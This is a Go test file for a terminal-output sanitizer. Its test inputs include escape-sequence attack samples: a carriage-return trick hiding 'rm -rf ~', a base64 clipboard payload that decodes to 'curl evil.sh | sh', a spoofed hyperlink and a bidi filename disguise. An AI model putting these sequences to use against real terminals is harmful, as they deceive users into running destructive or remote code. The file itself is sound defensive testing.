package termsafe

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"
)

var cases = []struct{ name, in, want string }{
	{"plain", "epoch 1 loss 0.25\n", "epoch 1 loss 0.25\n"},
	{"tab and unicode", "a\tb ✓ 日本語 é\n", "a\tb ✓ 日本語 é\n"},
	{"crlf kept", "line\r\nnext\r\n", "line\r\nnext\r\n"},
	{"lone cr becomes a line break", "10%\r20%\r30%\n", "10%\n20%\n30%\n"},
	{"cr overwrite attack", "rm -rf ~ # evil\rls -l          \n", "rm -rf ~ # evil\nls -l          \n"},
	{"cr at the end", "done\r", "done\n"},
	{"sgr colour", "\x1b[31mred\x1b[0m\n", "red\n"},
	{"csi cursor and erase", "a\x1b[2J\x1b[H\x1b[1;1Hb\x1b[?25l\n", "ab\n"},
	{"osc title with bel", "\x1b]0;pwned\x07ok\n", "ok\n"},
	{"osc 52 clipboard with st", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\ok\n", "ok\n"},
	{"osc 8 hyperlink", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\\n", "click\n"},
	{"dcs", "\x1bPq#0;2;0;0;0\x1b\\after", "after"},
	{"apc and pm and sos", "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\x", "x"},
	{"two-byte escapes", "\x1b7\x1bc\x1bMx\x1b=y", "xy"},
	{"nF escape", "\x1b(0qqq\x1b(Bz", "qqqz"},
	{"esc then control", "\x1b\nz", "\nz"},
	{"malformed csi", "\x1b[12\x01z", "z"},
	{"unterminated osc stops at a newline", "\x1b]0;title\nvisible\n", "\nvisible\n"},
	{"c0 controls", "a\x00b\x07c\x08d\x0be\x0cf\x0eg\x0fh\x7fi", "abcdefghi"},
	{"c1 utf-8 csi", "a\u009b31mb", "ab"},
	{"c1 utf-8 osc", "a\u009d0;t\u009cb", "ab"},
	{"c1 utf-8 other", "a\u0085\u008db", "ab"},
	{"raw c1 bytes", "a\x9b31mb\x9d0;t\x07c\x85d", "abcd"},
	{"invalid utf-8", "a\xffb\xc3", "a\ufffdb\ufffd"},
	{"bidi override", "file\u202egnp.exe\u202c\n", "filegnp.exe\n"},
	{"bidi isolate", "\u2066x\u2069", "x"},
	{"string sequence bounded", "\x1b]" + strings.Repeat("a", maxString+10) + "\n", strings.Repeat("a", 9) + "\n"},
}

func TestString(t *testing.T) {
	for _, c := range cases {
		if got := String(c.in); got != c.want {
			t.Errorf("%s: String(%q) = %q, want %q", c.name, c.in, got, c.want)
		}
	}
}

// TestWriterSplits: a sequence or a rune split across writes is handled as if written whole.
func TestWriterSplits(t *testing.T) {
	for _, c := range cases {
		for size := 1; size <= 4; size++ {
			var buf bytes.Buffer
			w := NewWriter(&buf)
			in := []byte(c.in)
			for i := 0; i < len(in); i += size {
				chunk := in[i:min(i+size, len(in))]
				if n, err := w.Write(chunk); n != len(chunk) || err != nil {
					t.Fatalf("%s: Write = %d, %v", c.name, n, err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if buf.String() != c.want {
				t.Errorf("%s in writes of %d: %q, want %q", c.name, size, buf.String(), c.want)
			}
		}
	}
}

type fdWriter struct{ bytes.Buffer }

func (*fdWriter) Fd() uintptr { return ^uintptr(0) } // not a terminal

func TestWrapPassesNonTerminals(t *testing.T) {
	var b bytes.Buffer
	if Wrap(&b) != &b {
		t.Error("a buffer was wrapped")
	}
	f := &fdWriter{}
	if Wrap(f) != f {
		t.Error("a non-terminal file was wrapped")
	}
}

// safe reports what must never reach the terminal.
func unsafe(s string) string {
	for i, r := range s {
		switch {
		case r == '\n' || r == '\t':
		case r == '\r':
			if !strings.HasPrefix(s[i:], "\r\n") {
				return "a \\r not followed by \\n"
			}
		case r < 0x20 || r == 0x7f:
			return "a C0 control or DEL"
		case r >= 0x80 && r <= 0x9f:
			return "a C1 control"
		case bidi(r):
			return "a bidi control"
		}
	}
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	return ""
}

func FuzzString(f *testing.F) {
	for _, c := range cases {
		f.Add(c.in, 3)
	}
	f.Fuzz(func(t *testing.T, in string, size int) {
		out := String(in)
		if why := unsafe(out); why != "" {
			t.Fatalf("String(%q) = %q holds %s", in, out, why)
		}
		// printable ASCII text with no ESC comes out unchanged
		plain := true
		for i := 0; i < len(in); i++ {
			if c := in[i]; c != '\n' && c != '\t' && (c < 0x20 || c >= 0x7f) {
				plain = false
			}
		}
		if plain && out != in {
			t.Fatalf("plain %q became %q", in, out)
		}
		// any split into writes gives the same result
		if size < 1 {
			size = 1
		}
		size = size%16 + 1
		var buf bytes.Buffer
		w := NewWriter(&buf)
		for i := 0; i < len(in); i += size {
			w.Write([]byte(in[i:min(i+size, len(in))]))
		}
		w.Flush()
		if buf.String() != out {
			t.Fatalf("%q in writes of %d = %q, whole = %q", in, size, buf.String(), out)
		}
	})
}
